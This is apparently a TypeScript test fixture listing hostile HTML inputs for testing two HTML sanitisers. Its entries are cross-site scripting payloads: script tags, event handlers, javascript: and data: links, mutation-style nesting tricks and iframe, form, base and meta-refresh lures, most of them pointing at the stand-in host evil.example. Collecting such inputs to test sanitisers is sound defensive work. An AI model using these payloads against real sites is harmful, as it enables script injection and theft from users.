// For tests of both sanitisers. Each of these would run a script, or fetch from evil.example, if it got through.
const run = 'globalThis.__ran=1'
const load = 'https://evil.example/'

/** Hostile descriptions, by what they try (security 2.9, hostile input 22). */
export const hostileBodies: Readonly<Record<string, string>> = {
  script: `<p>Hi</p><script>${run}</script><script src="${load}a.js"></script>`,
  'image that fails': `<img src="${load}b.png" onerror="${run}"><img src=x onerror=${run}>`,
  'drawing that loads': `<svg onload="${run}"><animate onbegin="${run}" attributeName="x"/></svg><svg><script>${run}</script></svg>`,
  'script link': `<a href="javascript:${run}">a</a><a href=" jAva\tscript:${run}">b</a><a href="&#106;avascript:${run}">c</a>`,
  'data link': `<a href="data:text/html,<script>${run}</script>">a</a>`,
  xmp: `<xmp><script>${run}</script></xmp><xmp><img src=x onerror=${run}></xmp>`,
  noembed: `<noembed><img src="${load}c.png" onerror="${run}"></noembed>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  plaintext: `<p>Hi</p><plaintext><img src=x onerror=${run}>`,
  'math and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'form and math': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}></style></mglyph></form>`,
  'svg and style': `<svg></p><style><a id="</style><img src=x onerror=${run}>"></style></svg>`,
  'foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  iframe: `<iframe src="${load}"></iframe><iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="${load}"></object><embed src="${load}">`,
  form: `<form action="${load}"><input name="pass" autofocus onfocus="${run}"><button formaction="javascript:${run}">Log in</button></form>`,
  'style attribute': `<p style="position:fixed;inset:0;background:url(${load}d.png)">Hi</p><style>@import '${load}e.css';</style>`,
  base: `<base href="${load}"><a href="merch">a</a>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${load}"><link rel="stylesheet" href="${load}f.css">`,
  handlers: `<p onclick="${run}" onpointerenter="${run}" tabindex="1" id="root" class="x" data-x="1">Hi</p><details open ontoggle="${run}">x</details>`,
  media: `<video poster="${load}g.png" onloadstart="${run}"><source src=x onerror="${run}"></video><audio src=x onerror="${run}"></audio>`,
  'half a tag': `<p>Hi<img src=x onerror=${run} <b>`,
  'template and comment': `<template><img src=x onerror=${run}></template><!--><img src=x onerror=${run}>-->`,
  'frame target': `<a href="https://evil.example/" target="_top" ping="${load}h" onclick="${run}">a</a>`,
}
